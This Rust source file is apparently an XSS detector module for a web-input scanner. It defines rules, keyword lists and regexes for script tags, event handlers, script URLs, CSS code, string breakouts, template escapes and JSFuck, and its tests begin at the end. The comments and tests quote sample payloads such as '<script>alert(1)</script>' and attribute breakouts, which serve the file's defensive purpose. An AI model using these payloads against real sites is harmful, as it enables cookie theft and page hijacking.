//! Cross-site scripting: markup, URLs, CSS and script that a browser would run if the value
//! were written into a page.
//!
//! How: a cheap prefilter first (a value with none of `< : = ( { & \ ` [` cannot hold
//! anything this class looks for), then a few linear passes over the lowercased value:
//! - a hand-written HTML tokenizer ([`html`]) finds start tags, malformed ones included,
//!   and judges tags (script, active elements) and attributes (event handlers, script URLs
//!   in URL attributes, code-running CSS, CSS injection, `srcdoc`, `http-equiv`), and the
//!   XML-namespace tricks of foreign content (XLink to other documents, XSLT, XML Events
//!   handlers, remote schemas, `<?xml-stylesheet?>`, `x-schema:`); SVG/MathML/namespaced
//!   tags alone are a Notice, a namespace trick a Warning, so an inline SVG icon passes but
//!   `<math><a xlink:href=//evil/>` blocks; tag names spelt with spaces (`<f o r m`,
//!   `< x: script>`) and tags written with `¼` and `¾` for `<` and `>` are evasions;
//! - the value read as the rest of an attribute or tag of the page: a leading quote that
//!   closes an attribute, followed by new attributes or by `>` and a tag;
//! - script URLs anywhere, decoded as a browser decodes an attribute ([`scheme`]);
//! - bare event-handler assignments (`" onfocus=alert(1) autofocus x="`);
//! - CSS that runs code ([`css`]);
//! - JavaScript: breakouts from a string literal into code (`';alert(1)//`), template
//!   sandbox escapes (`{{constructor.constructor('…')()}}`), calls of the usual
//!   proof-of-concept and code-running sinks (`alert(`, `eval(`), `document.cookie`,
//!   filter evasions (`self["alert"]`, `self["\x24"]`, tagged templates, JSFuck runs, also
//!   with `+` turned into blanks), and, as weaker evidence that only blocks together with
//!   more, the DOM APIs payloads use and the DOM writes they make (`.textContent=`,
//!   `document.write(`): a value that both reaches and writes the DOM blocks.

mod css;
mod html;
mod scheme;

use crate::detector::{Detector, Features, Input, Sink, WordSet};
use crate::location::Part;
use crate::rule::{Class, Rule, Severity};
use regex::bytes::Regex;
use std::sync::LazyLock;

/// A `<script>` start tag, NUL or control characters inside the name included.
pub(crate) static SCRIPT_TAG: Rule = Rule {
    id: "xss.script-tag",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "a <script> tag",
};

/// An event-handler attribute (`onerror=`, `onload=`…) in a tag, or assigned after a quote
/// that closes an attribute of the page.
pub(crate) static EVENT_HANDLER: Rule = Rule {
    id: "xss.event-handler",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "an HTML event-handler attribute (on…=)",
};

/// A `javascript:`, `vbscript:` or document `data:` URL, also entity- or
/// whitespace-obfuscated, in a URL attribute, at the start of a value, or followed by code.
pub(crate) static JS_URI: Rule = Rule {
    id: "xss.js-uri",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "a script URL (javascript:, vbscript:, data:text/html…)",
};

/// An element that loads or runs active content (iframe, object, embed, applet, base…),
/// `<meta http-equiv>`, `<link rel=import>`, or an iframe `srcdoc` holding markup.
pub(crate) static DANGEROUS_TAG: Rule = Rule {
    id: "xss.dangerous-tag",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "an HTML element or attribute that loads active content",
};

/// CSS that runs code: `expression(…)`, `-moz-binding`, `behavior:`.
pub(crate) static CSS_CODE: Rule = Rule {
    id: "xss.css-expression",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "CSS that runs script (expression(), -moz-binding, behavior)",
};

/// A value that starts by closing an attribute of the page: a quote, then `>` and a new tag,
/// or new attributes.
pub(crate) static ATTRIBUTE_BREAKOUT: Rule = Rule {
    id: "xss.attribute-breakout",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Warning,
    description: "a quote that closes an HTML attribute, then a new tag or attribute",
};

/// The closing tag of a raw-text element (`</title>`, `</textarea>`, `</script>`…)
/// followed by new markup.
pub(crate) static ELEMENT_BREAKOUT: Rule = Rule {
    id: "xss.element-breakout",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Warning,
    description: "a closing raw-text element tag followed by new markup",
};

/// A string literal closed and script called: `';alert(1)//`, `"-prompt(1)-"`,
/// `${alert(1)}`.
pub(crate) static JS_CONTEXT: Rule = Rule {
    id: "xss.js-context",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "a JavaScript string breakout followed by a call",
};

/// An AngularJS-style template sandbox escape: `{{constructor.constructor('…')()}}`.
pub(crate) static TEMPLATE_ESCAPE: Rule = Rule {
    id: "xss.template-escape",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "a client-side template expression reaching the Function constructor",
};

/// A call of a proof-of-concept or code-running sink: `alert(`, `prompt\``, `eval(`,
/// `setInterval(` (not in a path segment, which may name a manual page).
pub(crate) static JS_SINK: Rule = Rule {
    id: "xss.js-sink",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "a call of alert/confirm/prompt/eval or a timer with code",
};

/// A DOM or language API that payloads use to steal or write: `document.cookie`,
/// `String.fromCharCode`, `.innerHTML`, `window[…]`.
pub(crate) static JS_API: Rule = Rule {
    id: "xss.js-api",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Warning,
    description: "a DOM API payloads use (document.cookie, fromCharCode, innerHTML…)",
};

/// Reading or writing the page's cookies: `document.cookie`, also through comments or
/// bracket notation (`document /**/ . cookie`, `(document)["cookie"]`).
pub(crate) static COOKIE_ACCESS: Rule = Rule {
    id: "xss.cookie-access",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "script access to document.cookie",
};

/// JavaScript written to slip past filters: sinks reached by string keys on global objects
/// (`self["alert"]`), tagged-template calls (`` [].sort.call`${alert}` ``), JSFuck
/// (`(![]+[])[+!+[]]`), UTF-7 or look-alike `<script`, tags written with the bytes `¼` and
/// `¾` (`<` and `>` with the high bit set), tag names spelt with blanks (`<f o r m`).
pub(crate) static JS_EVASION: Rule = Rule {
    id: "xss.js-evasion",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "obfuscated JavaScript (string-keyed sinks, tagged templates, JSFuck)",
};

/// A tag that is unusual in user content and common in payloads (svg, math, form, style,
/// meta, link, marquee, animation elements…).
pub(crate) static SUSPICIOUS_TAG: Rule = Rule {
    id: "xss.suspicious-tag",
    class: Class::Xss,
    paranoia: 2,
    severity: Severity::Warning,
    description: "an HTML element unusual in user content (svg, math, form, style, meta…)",
};

/// An inline style that breaks out of its declaration list: braces or brackets (`foo}color:red`),
/// an unquoted `url(` holding spaces, `;` or comments, or CSS escapes of `<` and `>`; a
/// `<style>` element that escapes an at-rule (`@\69mport`).
pub(crate) static CSS_INJECTION: Rule = Rule {
    id: "xss.css-injection",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Critical,
    description: "a style attribute that breaks out of its declarations, or an escaped at-rule in a <style> element (CSS injection)",
};

/// Foreign content and XML vocabularies (SVG, MathML, SMIL animation, XML Events, XSLT, any
/// namespace-prefixed tag), where HTML parsers and sanitizers disagree: weak alone.
pub(crate) static FOREIGN_TAG: Rule = Rule {
    id: "xss.foreign-tag",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Notice,
    description: "an SVG, MathML, animation or namespaced XML element",
};

/// XML-namespace tricks: an XLink to another document, XSLT or XML Events namespaces,
/// schemas fetched from a URL, `<?xml-stylesheet?>`, animation of a link attribute.
pub(crate) static XML_NAMESPACE: Rule = Rule {
    id: "xss.xml-namespace",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Warning,
    description: "an XLink, XSLT, XML Events or remote-schema construct",
};

/// Script writing to the page: assignment to `.innerHTML`, `.textContent`, `.src`,
/// `location`, or a call of `document.write(`/`insertAdjacentHTML(`.
pub(crate) static DOM_WRITE: Rule = Rule {
    id: "xss.dom-write",
    class: Class::Xss,
    paranoia: 1,
    severity: Severity::Warning,
    description: "a DOM write (innerHTML=, textContent=, location=, document.write)",
};

/// The xss detector.
pub(crate) static DETECTOR: Detector = Detector {
    class: Class::Xss,
    rules: &[
        &SCRIPT_TAG,
        &EVENT_HANDLER,
        &JS_URI,
        &DANGEROUS_TAG,
        &CSS_CODE,
        &ATTRIBUTE_BREAKOUT,
        &ELEMENT_BREAKOUT,
        &JS_CONTEXT,
        &TEMPLATE_ESCAPE,
        &JS_SINK,
        &JS_API,
        &COOKIE_ACCESS,
        &JS_EVASION,
        &SUSPICIOUS_TAG,
        &CSS_INJECTION,
        &FOREIGN_TAG,
        &XML_NAMESPACE,
        &DOM_WRITE,
    ],
    alnum: false,
    scan,
};

fn scan(input: &Input<'_>, sink: &mut Sink<'_>) {
    let lower = input.lower;
    if matches!(
        input.part,
        Part::QueryName | Part::BodyKey | Part::CookieName
    ) {
        split_handler(lower, sink);
        if input.features.any(Features::EQUALS) {
            encoded_handler(lower, sink);
        }
    }
    // What the prefilter needs to know (a value with none of these cannot match).
    let f = input.features;
    let lt = f.any(Features::LESS);
    let eq = f.any(Features::EQUALS);
    let colon = f.any(Features::COLON);
    // `&` or `\`, which may encode a scheme's characters.
    let amp = f.any(Features::AMPERSAND | Features::BACKSLASH);
    // What script holds: an opener, a `.`, or a look-alike `<`.
    let scripty = f.any(Features::OPENER | Features::DOT | Features::LOOKALIKE);
    let dash = f.any(Features::MINUS);
    if lt {
        html::scan(lower, 0, sink, false);
    }
    // A breakout starts at a quote or a `<`.
    if (eq || lt) && f.any(Features::QUOTE | Features::LESS) {
        breakout(lower, sink);
    }
    if eq {
        bare_handlers(lower, sink);
    }
    if colon || amp {
        schemes(input.text, lower, sink);
    }
    if colon
        && css::may_run(lower)
        && let Some(at) = css::code(lower, true)
    {
        sink.report(&CSS_CODE, at..lower.len());
    }
    if scripty || eq || dash {
        script(input, sink);
    }
    if scripty && f.any(Features::HIGH) {
        lookalike_tags(lower, sink);
    }
}

/// `¼test¾…¼/test¾`: tags written with `¼` and `¾` (Latin-1 `0xbc`, `0xbe`), which a
/// US-ASCII reader that drops the high bit turns into `<` and `>`. Each may be a lone byte
/// or the UTF-8 character (what a `\xbc` escape decodes to), never part of another
/// character (`ü` is `c3 bc`); two tags, or one of a known element, are needed: prose
/// writes `1¼ lb`, not `¼lb¾`.
fn lookalike_tags(lower: &[u8], sink: &mut Sink<'_>) {
    let lone = |at: usize| at == 0 || lower[at - 1] < 0x80 || lower[at - 1] == 0xc2;
    let mut tags = 0;
    for at in memchr::memchr_iter(0xbc, lower) {
        if !lone(at) {
            continue;
        }
        let from = at + 1 + usize::from(lower.get(at + 1) == Some(&b'/'));
        let name = lower
            .get(from..)
            .unwrap_or_default()
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric())
            .count();
        let end = from + name;
        let close = match lower.get(end..) {
            Some([0xbe, ..]) => end + 1,
            Some([0xc2, 0xbe, ..]) => end + 2,
            _ => continue,
        };
        if !(1..=20).contains(&name) || !lower[from].is_ascii_alphabetic() {
            continue;
        }
        tags += 1;
        if tags >= 2 || html::kind(&lower[from..end]) != html::Kind::Other {
            sink.report(&JS_EVASION, at..close);
            return;
        }
    }
}

/// A value that begins by closing an attribute of the page: a quote (before any `<`), then
/// either `>` and a tag, or attributes, which are judged like those of a tag.
fn breakout(lower: &[u8], sink: &mut Sink<'_>) {
    let Some(q) = lower
        .iter()
        .position(|&b| matches!(b, b'"' | b'\'' | b'`' | b'<'))
    else {
        return;
    };
    if lower[q] == b'<' {
        return;
    }
    let mut p = q + 1;
    while p < lower.len() && (lower[p] <= b' ' || lower[p] == b'/') {
        p += 1;
    }
    if lower.get(p) == Some(&b'>') {
        let rest = lower.get(p + 1..).unwrap_or_default().trim_ascii_start();
        if rest.first() == Some(&b'<')
            && rest
                .get(1)
                .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, b'!' | b'/'))
        {
            sink.report(&ATTRIBUTE_BREAKOUT, q..p + 1);
        }
        return;
    }
    let mut assigned = false;
    html::attributes(lower, q + 1, |a| {
        if let Some(v) = &a.value {
            let name = lower[a.name.clone()].trim_ascii_end();
            if html::handler_name(name)
                || matches!(
                    name,
                    b"style" | b"src" | b"href" | b"action" | b"formaction"
                )
            {
                assigned = true;
            }
            if v.start > a.name.start {
                html::attribute(
                    lower,
                    0,
                    html::Kind::Other,
                    &html::Attribute {
                        name: a.name.clone(),
                        value: Some(v.clone()),
                    },
                    sink,
                    true,
                );
            }
        }
    });
    if assigned {
        sink.report(&ATTRIBUTE_BREAKOUT, q..lower.len());
    }
}

/// Event names a browser fires (without the `on`), for assignments found outside a tag.
const EVENTS: &[&[u8]] = &[
    b"abort",
    b"activate",
    b"afterprint",
    b"afterscriptexecute",
    b"afterupdate",
    b"auxclick",
    b"beforeactivate",
    b"beforecopy",
    b"beforecut",
    b"beforedeactivate",
    b"beforeinput",
    b"beforepaste",
    b"beforeprint",
    b"beforescriptexecute",
    b"beforeunload",
    b"begin",
    b"blur",
    b"bounce",
    b"canplay",
    b"canplaythrough",
    b"change",
    b"click",
    b"close",
    b"contextmenu",
    b"copy",
    b"cuechange",
    b"cut",
    b"dblclick",
    b"deactivate",
    b"drag",
    b"dragend",
    b"dragenter",
    b"dragleave",
    b"dragover",
    b"dragstart",
    b"drop",
    b"durationchange",
    b"end",
    b"ended",
    b"error",
    b"finish",
    b"focus",
    b"focusin",
    b"focusout",
    b"formdata",
    b"hashchange",
    b"help",
    b"input",
    b"invalid",
    b"keydown",
    b"keypress",
    b"keyup",
    b"load",
    b"loadeddata",
    b"loadedmetadata",
    b"loadend",
    b"loadstart",
    b"message",
    b"mousedown",
    b"mouseenter",
    b"mouseleave",
    b"mousemove",
    b"mouseout",
    b"mouseover",
    b"mouseup",
    b"mousewheel",
    b"move",
    b"pagehide",
    b"pageshow",
    b"paste",
    b"pause",
    b"play",
    b"playing",
    b"popstate",
    b"progress",
    b"propertychange",
    b"ratechange",
    b"readystatechange",
    b"repeat",
    b"reset",
    b"resize",
    b"scroll",
    b"scrollend",
    b"search",
    b"seeked",
    b"seeking",
    b"select",
    b"selectionchange",
    b"selectstart",
    b"show",
    b"start",
    b"storage",
    b"submit",
    b"suspend",
    b"timeupdate",
    b"toggle",
    b"unload",
    b"volumechange",
    b"waiting",
    b"wheel",
];

/// Families of event names (`onmouse…`, `onpointer…`, `onwebkit…`).
const EVENT_FAMILIES: &[&[u8]] = &[
    b"mouse",
    b"key",
    b"pointer",
    b"touch",
    b"drag",
    b"animation",
    b"transition",
    b"before",
    b"after",
    b"focus",
    b"webkit",
    b"moz",
    b"ms",
    b"page",
    b"fullscreen",
    b"gesture",
];

fn event_name(name: &[u8]) -> bool {
    let Some(event) = name.strip_prefix(b"on") else {
        return false;
    };
    event.len() >= 3
        && event.iter().all(u8::is_ascii_alphabetic)
        && (EVENTS.contains(&event) || EVENT_FAMILIES.iter().any(|f| event.starts_with(f)))
}

/// `onerror=…` outside any tag: a known event name at the start of a word, then `=`.
fn bare_handlers(lower: &[u8], sink: &mut Sink<'_>) {
    // Every `on`, in one pass: `o` is too common in text for a search per occurrence.
    let ons = lower
        .windows(2)
        .enumerate()
        .filter(|(_, pair)| *pair == b"on")
        .map(|(at, _)| at);
    for at in ons {
        if at > 0
            && lower.get(at - 1).is_some_and(|&p| {
                p.is_ascii_alphanumeric() || matches!(p, b'_' | b'.' | b'-' | b'$')
            })
        {
            continue;
        }
        let mut end = at + 2;
        while end < lower.len() && lower[end].is_ascii_alphabetic() {
            end += 1;
        }
        let name = &lower[at..end];
        let known = event_name(name);
        let separated = at == 0 || matches!(lower[at - 1], b'"' | b'\'' | b'`' | b'/' | 0..=b' ');
        if !(known || (separated && html::handler_name(name))) {
            continue;
        }
        let mut p = end;
        while p < lower.len() && lower[p] <= b' ' {
            p += 1;
        }
        // An unknown `on…` name counts only when script follows (`onxyz=alert(1)`).
        let code = || {
            lower
                .get(p + 1..)
                .unwrap_or_default()
                .iter()
                .take_while(|&&b| b > b' ')
                .any(|&b| matches!(b, b'(' | b'`' | b'='))
        };
        if lower.get(p) == Some(&b'=') && lower.get(p + 1) != Some(&b'=') && (known || code()) {
            sink.report(&EVENT_HANDLER, at..p + 1);
            return;
        }
    }
}

/// A parameter name ending in ` onerror` (after a space, quote or `;`): the `=` of an
/// injected `onerror=…` became the name/value separator (`?x" onmouseover=alert(1)`).
fn split_handler(lower: &[u8], sink: &mut Sink<'_>) {
    let name = lower.trim_ascii_end();
    let start = name
        .iter()
        .rposition(|b| !b.is_ascii_alphabetic())
        .map_or(0, |i| i + 1);
    if start > 0
        && matches!(
            name[start - 1],
            b'"' | b'\'' | b'`' | b'/' | b';' | 0..=b' '
        )
        && event_name(&name[start..])
    {
        sink.report(&EVENT_HANDLER, start..name.len());
    }
}

/// A parameter name that holds an `=` (it came encoded, `%3d`): ` onxyz=` inside it is a
/// handler of any name, as in a tag.
fn encoded_handler(lower: &[u8], sink: &mut Sink<'_>) {
    for at in memchr::memchr_iter(b'=', lower) {
        let before = lower[..at].trim_ascii_end();
        let start = before
            .iter()
            .rposition(|b| !b.is_ascii_alphabetic())
            .map_or(0, |i| i + 1);
        let handler = &before[start..];
        if (5..=40).contains(&handler.len())
            && html::handler_name(handler)
            && start > 0
            && matches!(
                before[start - 1],
                b'"' | b'\'' | b'`' | b'/' | b';' | b',' | b'(' | b'=' | 0..=b' '
            )
        {
            sink.report(&EVENT_HANDLER, start..at + 1);
            return;
        }
    }
}

/// Script URLs anywhere in the value: at a word start, followed by code, or at the start of
/// the value (a redirect target, a link field); a document `data:` URL anywhere.
fn schemes(text: &[u8], lower: &[u8], sink: &mut Sink<'_>) {
    /// The bytes a scheme starts with: its first letter, or the `&` or `\` of an escape.
    static STARTS: [bool; 256] = crate::needle::byte_set(b"jvld&\\");
    // Where a scheme may start: a start byte that does not continue a word.
    let starts = (0..lower.len()).filter(|&i| {
        STARTS[usize::from(lower[i])] && (i == 0 || !lower[i - 1].is_ascii_alphanumeric())
    });
    for i in starts {
        let Some((kind, end)) = scheme::at(lower, i) else {
            continue;
        };
        // At the start of the value, or of an assignment (`next=javascript:…`).
        let at_start = lower[..i]
            .iter()
            .rev()
            .find(|&&p| !(p <= b' ' || matches!(p, b'"' | b'\'' | b'`' | b'(')))
            .is_none_or(|&p| p == b'=');
        // A title puts a blank and a capital after the plainly spelled name ("JavaScript:
        // The Good Parts"), where code would call, assign or index.
        let code = scheme::code_follows(lower, end);
        let prose = text[end..].strip_prefix(b" ").map(<[u8]>::trim_ascii_start);
        let titled = &lower[i..end] == b"javascript:"
            && prose.is_some_and(|p| p.first().is_some_and(u8::is_ascii_uppercase))
            && !code;
        if kind == scheme::Scheme::DataDocument || (at_start && !titled) || code {
            sink.report(&JS_URI, i..end);
            return;
        }
    }
}

/// Rules of the keyword pass, in pattern order.
#[derive(Clone, Copy)]
enum Keyword {
    Sink,
    Api,
    Evasion,
    /// A call that writes markup into the page.
    Write,
    /// Not reported: says the string-breakout pattern is worth running.
    Marker,
}

const KEYWORDS: &[(&[u8], Keyword)] = &[
    (b"alert(", Keyword::Sink),
    (b"alert`", Keyword::Sink),
    (b"confirm(", Keyword::Sink),
    (b"confirm`", Keyword::Sink),
    (b"prompt(", Keyword::Sink),
    (b"prompt`", Keyword::Sink),
    (b"eval(", Keyword::Sink),
    (b"settimeout(", Keyword::Sink),
    (b"setinterval(", Keyword::Sink),
    (b"execscript(", Keyword::Sink),
    (b"msgbox(", Keyword::Sink),
    (b"showmodaldialog(", Keyword::Sink),
    (b"document.cookie", Keyword::Api),
    (b"document.domain", Keyword::Api),
    (b"document.write", Keyword::Api),
    (b"document.location", Keyword::Api),
    (b"document.body", Keyword::Api),
    (b"document.url", Keyword::Api),
    (b"window.location", Keyword::Api),
    (b"window.name", Keyword::Api),
    (b"window.open(", Keyword::Api),
    (b"location.href", Keyword::Api),
    (b"location.hash", Keyword::Api),
    (b"location.replace(", Keyword::Api),
    (b"location.assign(", Keyword::Api),
    (b".innerhtml", Keyword::Api),
    (b".outerhtml", Keyword::Api),
    (b"fromcharcode", Keyword::Api),
    (b"constructor.constructor", Keyword::Api),
    (b".constructor(", Keyword::Api),
    (b"__definesetter__", Keyword::Api),
    (b"__definegetter__", Keyword::Api),
    (b"top[", Keyword::Api),
    (b"self[", Keyword::Api),
    (b"window[", Keyword::Api),
    (b"parent[", Keyword::Api),
    (b"frames[", Keyword::Api),
    (b"globalthis[", Keyword::Api),
    (b"atob(", Keyword::Api),
    (b"createelement(", Keyword::Api),
    (b".appendchild(", Keyword::Api),
    (b"xmlhttprequest", Keyword::Api),
    (b"importscripts(", Keyword::Api),
    (b".source", Keyword::Api),
    (b"this.onerror", Keyword::Api),
    (b"queryselector", Keyword::Api),
    (b"getelementbyid(", Keyword::Api),
    (b"getelementsby", Keyword::Api),
    (b"activexobject", Keyword::Api),
    (b"document.write(", Keyword::Write),
    (b"document.writeln(", Keyword::Write),
    (b".insertadjacenthtml(", Keyword::Write),
    (b"function", Keyword::Marker),
    (b"document", Keyword::Marker),
    (b"window", Keyword::Marker),
    (b"top.", Keyword::Marker),
    (b"self.", Keyword::Marker),
    (b"parent.", Keyword::Marker),
    (b"frames.", Keyword::Marker),
    (b"globalthis", Keyword::Marker),
    (b"location", Keyword::Marker),
    (b"adw-script", Keyword::Evasion),
    (b"\xef\xbc\x9cscript", Keyword::Evasion),
    (b"%uff1cscript", Keyword::Evasion),
    (b"\xbcscript", Keyword::Evasion),
];

/// The keywords, for the [`super::TRIGGER_WORDS`].
pub(super) fn words() -> Vec<&'static [u8]> {
    KEYWORDS.iter().map(|(k, _)| *k).collect()
}

/// A string literal closed, an operator, then a call of a sink or a DOM object reached.
#[allow(clippy::expect_used)] // a constant pattern: it compiles, or every test fails
static STRING_BREAKOUT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:['"`]|</script\s*>)[\s)\]}]*[;,+\-*/|&^%?:]+[\s(]*(?:(?:[a-z_$][\w$]*\s*=\s*)?(?:alert|confirm|prompt|eval|settimeout|setinterval|execscript|(?:new\s+)?function)\s*[(`]|(?:document|window|top|self|parent|frames|globalthis|location)\s*(?:\[|\.[a-z_$]))|\$\{[^}]{0,100}?(?:alert|confirm|prompt|eval)\s*[(`]"#,
    )
    .expect("constant regex")
});

/// A `{{ … }}` expression reaching constructors or scope internals.
#[allow(clippy::expect_used)] // a constant pattern: it compiles, or every test fails
static SANDBOX_ESCAPE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"\{\{[^}]{0,200}?(?:constructor|\$eval|\$on\b|\$parse|\$apply|__proto__|\.prototype|(?:alert|confirm|prompt|eval)\s*[(`])",
    )
    .expect("constant regex")
});

/// `document` then `.cookie` or `["cookie"]`, with comments, spaces, parentheses and quotes
/// allowed between.
#[allow(clippy::expect_used)] // a constant pattern: it compiles, or every test fails
static COOKIE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"document(?:[\s+]|/\*[^*]*\*/|[)"'`\]])*(?:\.|\[)(?:[\s+]|/\*[^*]*\*/|["'`])*cookie\b"#,
    )
    .expect("constant regex")
});

/// Filter evasions: a global object indexed by the string name of a sink or of `document`;
/// a tagged template calling a method or placing a sink in `${…}`; JSFuck atoms.
#[allow(clippy::expect_used)] // a constant pattern: it compiles, or every test fails
static EVASION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:window|self|top|parent|frames|globalthis|this)(?:[\s+]|/\*[^*]*\*/)*\[(?:[\s+]|/\*[^*]*\*/)*["'`](?:alert|confirm|prompt|eval|document|location|settimeout|setinterval|function|constructor|\\[xu0-7]|[\w$]*["'`]\s*\+\s*["'`])|\.(?:\s|/\*[^*]*\*/)*(?:call|apply|bind)\s*`|\$\{\s*(?:alert|confirm|prompt|eval|settimeout|setinterval|function|navigation\.navigate)\s*\}|(?:\(!\[\]\+\[\]\)|\+!!\[\]|!\+\[\]|\[\+!\+\[\]\])"#,
    )
    .expect("constant regex")
});

/// The word [`COOKIE`] needs, for the shared trigger words.
pub(super) const COOKIE_WORDS: [&[u8]; 1] = [b"cookie"];

/// Whether [`EVASION`] is worth running: a `[` or a backtick, and what one of its
/// alternatives needs besides: `[` and a quote (a global indexed by a string), `[` and `!`
/// or `+` (JSFuck), a `.` and a backtick (a tagged template call), `${`.
fn may_evade(input: &Input<'_>) -> bool {
    let f = input.features;
    let bracket = f.any(Features::BRACKET);
    let backtick = f.any(Features::QUOTE) && input.lower.contains(&b'`');
    (bracket && f.any(Features::QUOTE | Features::SIGIL | Features::DASH))
        || (backtick && f.any(Features::DOT))
        || ((bracket || backtick) && f.any(Features::DOLLAR) && f.any(Features::BRACE))
}

/// Script in the value: sinks, DOM APIs, string breakouts, template sandbox escapes.
fn script(input: &Input<'_>, sink: &mut Sink<'_>) {
    let (lower, part) = (input.lower, input.part);
    // A path segment may name a manual page (`/docs/document.cookie`).
    if part != Part::Path
        && input.words(WordSet::Cookie).next().is_some()
        && let Some(m) = COOKIE.find(lower)
    {
        sink.report(&COOKIE_ACCESS, m.range());
    }
    let features = input.features;
    if may_evade(input)
        && let Some(m) = EVASION.find(lower)
    {
        sink.report(&JS_EVASION, m.range());
    }
    let mut code_words = false;
    for m in input.words_leftmost_longest(WordSet::Script, lower.len()) {
        let (_, keyword) = KEYWORDS[m.pattern().as_usize()];
        let first = lower[m.start()];
        if first.is_ascii_alphabetic()
            && !matches!(keyword, Keyword::Evasion)
            && m.start() > 0
            && lower
                .get(m.start() - 1)
                .is_some_and(|&p| p.is_ascii_alphanumeric() || p == b'_' || p == b'$')
        {
            continue;
        }
        let rule = match keyword {
            Keyword::Sink if part == Part::Path => continue,
            Keyword::Sink => &JS_SINK,
            Keyword::Api => &JS_API,
            Keyword::Write => &DOM_WRITE,
            Keyword::Evasion => &JS_EVASION,
            Keyword::Marker => {
                code_words = true;
                continue;
            }
        };
        code_words = true;
        sink.report(rule, m.range());
    }
    if code_words
        && features.any(Features::QUOTE | Features::DOLLAR)
        && let Some(m) = STRING_BREAKOUT.find(lower)
    {
        sink.report(&JS_CONTEXT, m.range());
    }
    if features.any(Features::BRACE)
        && memchr::memchr_iter(b'{', lower).any(|p| lower.get(p + 1) == Some(&b'{'))
        && let Some(m) = SANDBOX_ESCAPE.find(lower)
    {
        sink.report(&TEMPLATE_ESCAPE, m.range());
    }
    if code_words
        && features.any(Features::EQUALS)
        && let Some(m) = DOM_ASSIGNMENT.find(lower)
    {
        sink.report(&DOM_WRITE, m.range());
    }
    // Every atom holds a `[`.
    if features.any(Features::BRACKET)
        && let Some(span) = jsfuck(lower)
    {
        sink.report(&JS_EVASION, span);
    }
}

/// An assignment to a property that writes markup or navigates: `.innerHTML =`,
/// `.textContent=`, `location.href =`, `document.location=` (not a comparison).
#[allow(clippy::expect_used)] // a constant pattern: it compiles, or every test fails
static DOM_ASSIGNMENT: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?:\.(?:inner|outer)html|\.(?:textcontent|innertext|outertext|srcdoc)|(?:document|window|top|self|parent)\.location(?:\.href)?|location\.href)\s*\+?=[^=]",
    )
    .expect("constant regex")
});

/// JSFuck: a run of at least 24 bytes drawn only from `[]()!+` (and blanks, where a form
/// decoder turned `+` into a space) holding three `![]` or `!+[]` atoms.
fn jsfuck(lower: &[u8]) -> Option<std::ops::Range<usize>> {
    let atom = |i: usize| {
        lower.get(i + 1..i + 3) == Some(b"[]") || lower.get(i + 1..i + 4) == Some(b"+[]")
    };
    // Most values with a `!` are prose: no atom, no run to measure.
    let first = memchr::memchr_iter(b'!', lower).find(|&i| atom(i))?;
    let mut start = lower[..first]
        .iter()
        .rposition(|b| !matches!(b, b'[' | b']' | b'(' | b')' | b'+' | b' ' | b'!'))
        .map_or(0, |p| p + 1);
    let mut atoms = 0;
    for (i, &b) in lower.iter().enumerate().skip(start) {
        match b {
            b'[' | b']' | b'(' | b')' | b'+' | b' ' => {}
            b'!' => {
                if atom(i) {
                    atoms += 1;
                }
            }
            _ => {
                if atoms >= 3 && i - start >= 24 {
                    return Some(start..i);
                }
                start = i + 1;
                atoms = 0;
                continue;
            }
        }
    }
    (atoms >= 3 && lower.len() - start >= 24).then_some(start..lower.len())
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::detector::{matches, with_input};
    use crate::location::Part;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(4096))]
        /// What [`super::EVASION`] matches, [`super::may_evade`] lets through.
        #[test]
        fn the_evasion_gate_lets_every_match_through(
            pieces in proptest::collection::vec(
                proptest::sample::select(vec![
                    "window", "this", "[", "]", "'", "\"", "`", "alert", "+", "!", "[]", ".",
                    "call", "${", "}", "eval", " ", "/**/", "x", "\\x", "a'+'", "!+[]",
                    "+!![]", "(![]+[])", "[+!+[]]", ".call`", "${alert}", "['eval']",
                ]),
                0..8,
            )
        ) {
            let text = pieces.concat();
            with_input(Part::Query, "q", text.as_bytes(), 1, |input| {
                let gated = input.lower.contains(&b'[') || input.lower.contains(&b'`');
                if gated && super::EVASION.is_match(input.lower) {
                    assert!(super::may_evade(input), "{text:?}");
                }
            });
        }
    }

    fn hits(text: &str) -> Vec<&'static str> {
        matches(&DETECTOR, Part::Query, "q", text, 1)
    }

    fn hits_at(text: &str, paranoia: u8) -> Vec<&'static str> {
        matches(&DETECTOR, Part::Query, "q", text, paranoia)
    }

    fn has(text: &str, id: &str) {
        let h = hits(text);
        assert!(h.contains(&id), "{text:?} should match {id}, got {h:?}");
    }

    fn clean(text: &str) {
        let h = hits(text);
        assert!(h.is_empty(), "{text:?} should not match, got {h:?}");
    }

    #[test]
    fn script_tags() {
        has("<script>alert(1)</script>", "xss.script-tag");
        has("<SCRIPT/x>alert(1)</SCRIPT>", "xss.script-tag");
        has("<script/src=data:,alert(1)", "xss.script-tag");
        has("<scr\0ipt>confirm(0);</scr\0ipt>", "xss.script-tag");
        has("<scr\nipt>alert(1)</script>", "xss.script-tag");
